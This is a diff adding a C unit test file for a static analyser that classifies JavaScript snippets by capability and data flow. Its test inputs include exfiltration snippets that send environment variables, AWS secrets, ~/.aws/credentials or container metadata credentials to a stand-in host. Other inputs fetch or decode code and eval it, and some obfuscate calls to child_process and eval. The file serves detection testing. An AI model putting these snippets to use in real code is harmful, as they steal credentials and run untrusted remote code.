@@ -1,0 +1,162 @@
+/* SPDX-License-Identifier: Apache-2.0
+ *
+ * behavior_javascript_test.c - what is said of JavaScript code.
+ */
+#include "behavior_case.h"
+
+#define NOTHING "capability\nflow\naws-call\nendpoint"
+
+static const struct behavior_case cases[] = {
+    /* names and aliases */
+    { "require('child_process').exec('id');", "capability process child_process.exec id import",
+      NULL },
+    { "const {exec: e} = require('node:child_process'); e('id');",
+      "capability process child_process.exec id", NULL },
+    { "import {execSync as x} from 'child_process'; x('id');",
+      "capability process child_process.execSync id", NULL },
+    { "import * as cp from 'node:child_process'; cp.spawn('sh', ['-c', 'curl http://a.invalid']);",
+      "capability process child_process.spawn\ncapability network curl", NULL },
+    { "const cp = require('child' + '_process'); cp['ex' + 'ec']('id');",
+      "capability process child_process.exec\ncapability dynamic-import child_process\n"
+      "capability hidden-name child_process.exec",
+      NULL },
+    { "global['ev' + 'al']('1');", "capability dynamic-code eval\ncapability hidden-name eval",
+      NULL },
+    { "(0, eval)('1');", "capability dynamic-code eval", NULL },
+    { "const f = eval; f('1');", "capability dynamic-code eval", NULL },
+    { "new Function('return 1')();", "capability dynamic-code Function", NULL },
+    { "[].constructor.constructor('return process')();", "capability dynamic-code Function", NULL },
+    { "(() => {}).constructor('return 1')();", "capability dynamic-code Function", NULL },
+    { "eval.call(null, '1');", "capability dynamic-code eval", NULL },
+    { "Reflect.apply(require('child_process').exec, null, ['id']);",
+      "capability process child_process.exec id", NULL },
+    { "const {promisify} = require('util'); const cp = require('child_process');"
+      "const run = promisify(cp.exec); run('id');",
+      "capability process child_process.exec id", NULL },
+    { "var _c = __importStar(require('child_process')); _c.exec('id');",
+      "capability process child_process.exec", NULL },
+    { "var r = require; r('child_process').exec('id');", "capability process child_process.exec",
+      NULL },
+    { "process.mainModule.require('child_process').exec('id');",
+      "capability process child_process.exec", NULL },
+    { "(async () => { const cp = await import('child_process'); cp.exec('id'); })();",
+      "capability process child_process.exec import", NULL },
+    /* texts that are put together */
+    { "fetch('ht' + 'tps://' + 'a.' + 'invalid');", "endpoint https://a.invalid", NULL },
+    { "fetch(`https://${'a.'}${'inva'}lid/`);", "endpoint https://a.invalid/", NULL },
+    { "fetch('\\x68ttp://a\\u002einvalid');", "endpoint http://a.invalid", NULL },
+    { "fetch(['http:', '', 'a.' + 'invalid'].join('/'));", "endpoint http://a.invalid", NULL },
+    { "fetch('dilavni.a//:ptth'.split('').reverse().join(''));", "endpoint http://a.invalid",
+      NULL },
+    { "fetch(String.fromCharCode(104,116,116,112,58,47,47,97,46,98,99));", "endpoint http://a.bc",
+      NULL },
+    { "fetch([104,116,116,112,58,47,47,97,46,98,99].map(c => String.fromCharCode(c)).join(''));",
+      "endpoint http://a.bc", NULL },
+    { "fetch(Buffer.from('aHR0cDovL2EuaW52YWxpZA==', 'base64').toString());",
+      "endpoint http://a.invalid", NULL },
+    { "fetch(atob('aHR0cDovL2EuaW52YWxpZA=='));", "endpoint http://a.invalid\ncapability decode",
+      NULL },
+    { "const k = ['aHR0cDov', 'L2EuaW52', 'YWxpZA==']; function d(i) { return k[i]; }"
+      "fetch(atob(d(0) + d(1) + d(2)));",
+      "endpoint http://a.invalid", NULL },
+    { "const https = require('https'); https.request({hostname: ['a', 'invalid'].join('.')});",
+      "capability network https.request a.invalid\nendpoint a.invalid", NULL },
+    /* decoded code */
+    { "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik=', 'base64')"
+      ".toString('utf8'));",
+      "capability decode-run eval\nflow decode eval\n"
+      "capability process child_process.exec id is run as code",
+      NULL },
+    { "eval(require('zlib').inflateSync(Buffer.from(x, 'base64')).toString());",
+      "capability decode-run eval", NULL },
+    { "require('vm').runInThisContext(atob(x));", "capability decode-run vm.runInThisContext",
+      NULL },
+    /* the environment */
+    { "const a = process.env.HOME;", "capability env-read process.env HOME", "env-all" },
+    { "const {AWS_SESSION_TOKEN: t} = process.env;", "capability credentials AWS_SESSION_TOKEN",
+      "env-all" },
+    { "console.log(JSON.stringify(process.env));", "capability env-all process.env", NULL },
+    { "const c = {...process.env};", "capability env-all", NULL },
+    { "process.env.NODE_OPTIONS = '--require /opt/x.js';", "capability env-write NODE_OPTIONS",
+      "env-read" },
+    { "process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = '0';",
+      "capability env-write\ncapability tls-unverified", NULL },
+    { "delete process.env.X;", "capability env-write X", NULL },
+    /* flows */
+    { "const https = require('https'); const r = https.request('https://a.invalid');"
+      "r.write(JSON.stringify(process.env)); r.end();",
+      "flow env-all network import", NULL },
+    { "exports.handler = async () => { await fetch('https://a.invalid', {method: 'POST', "
+      "body: process.env.AWS_SECRET_ACCESS_KEY}); };",
+      "flow credentials network fetch call", "import flow" },
+    { "const send = d => fetch('https://a.invalid', {body: d}); send(JSON.stringify(process.env));",
+      "flow env-all network import", NULL },
+    { "fetch('https://a.invalid/x').then(r => r.text()).then(t => eval(t));",
+      "flow network eval eval", NULL },
+    { "require('https').get('https://a.invalid', r => { let b = ''; r.on('data', d => b += d);"
+      "r.on('end', () => eval(b)); });",
+      "flow network eval", NULL },
+    { "const fs = require('fs'); fetch('http://a.invalid').then(r => r.text())"
+      ".then(t => fs.writeFileSync('/tmp/x', t));",
+      "flow network file\ncapability file-write /tmp/x", NULL },
+    { "const fs = require('fs'), os = require('os');"
+      "fetch('http://a.invalid', {body: fs.readFileSync(os.homedir() + '/.aws/credentials')});",
+      "flow secret network", NULL },
+    { "require('dns').lookup(process.env.AWS_SESSION_TOKEN + '.a.invalid');",
+      "flow credentials dns", NULL },
+    { "class A { constructor() { this.e = process.env.AWS_SESSION_TOKEN; }"
+      "go() { fetch('http://a.invalid', {body: this.e}); } }",
+      "flow credentials network", NULL },
+    { "require('child_process').spawn('ls', [], {env: process.env});", "capability process ls",
+      "flow\nenv-all" },
+    /* AWS */
+    { "const AWS = require('aws-sdk'); const s3 = new AWS.S3(); s3.putObject({}).promise();",
+      "aws-call s3 PutObject", "Promise" },
+    { "import {S3Client, PutObjectCommand} from '@aws-sdk/client-s3';"
+      "new S3Client({}).send(new PutObjectCommand({}));",
+      "aws-call s3 PutObject", "Send" },
+    { "const S3 = require('aws-sdk/clients/s3'); const c = new S3(); c.getObject({});",
+      "aws-call s3 GetObject", NULL },
+    { "import {STS} from '@aws-sdk/client-sts'; new STS({}).assumeRole({});",
+      "aws-call sts AssumeRole", NULL },
+    { "const A = require('aws-sdk'); A.config.credentials.get(() => {});", "capability credentials",
+      NULL },
+    /* patches */
+    { "const M = require('module'); const o = M._load; M._load = function () { return o(); };",
+      "capability patch-loader module._load", NULL },
+    { "const AWS = require('aws-sdk'); AWS.Request.prototype.send = function () {};",
+      "capability patch-sdk aws-sdk.Request.prototype.send", NULL },
+    { "const h = require('http'); h.request = () => 1;", "capability patch http.request", NULL },
+    { "require.extensions['.js'] = () => 1;", "capability patch-loader require.extensions", NULL },
+    /* Lambda */
+    { "fetch(`http://${process.env.AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation/next`);",
+      "capability runtime-api\ncapability env-read AWS_LAMBDA_RUNTIME_API", NULL },
+    { "const u = base + '/2022-07-01/telemetry'; fetch(u);", "capability telemetry-api", NULL },
+    { "fetch('http://169.254.170.2' + process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI)"
+      ".then(r => r.json()).then(c => fetch('https://a.invalid', {body: c}));",
+      "capability metadata\nflow credentials network\nflow metadata network", NULL },
+    /* what bundlers make */
+    { "(() => { var e = { 123: (e) => { e.exports = require('child_process'); } };"
+      "var t = {}; function n(i) { var r = t[i]; if (r) return r.exports;"
+      "var o = t[i] = {exports: {}}; return e[i](o, o.exports, n), o.exports; }"
+      "n(123).exec('id'); })();",
+      "capability process child_process.exec id", NULL },
+    /* what is nothing */
+    { "// eval(process.env)\n'use strict'; const a = [1].map(x => x + 1); module.exports = a;",
+      NULL, NOTHING },
+    { "class Q { exec() {} eval() {} } new Q().exec('id'); /a/.exec('b');", NULL, NOTHING },
+    { "function f(fetch) { fetch('http://a.invalid'); }", NULL, NOTHING },
+    { "exports.get = function (url) { return this.request(url); };", NULL, NOTHING },
+};
+
+static void test_cases(void **state)
+{
+    (void)state;
+    check_cases(LW_LANG_JAVASCRIPT, cases, LW_COUNT(cases));
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = { cmocka_unit_test(test_cases) };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
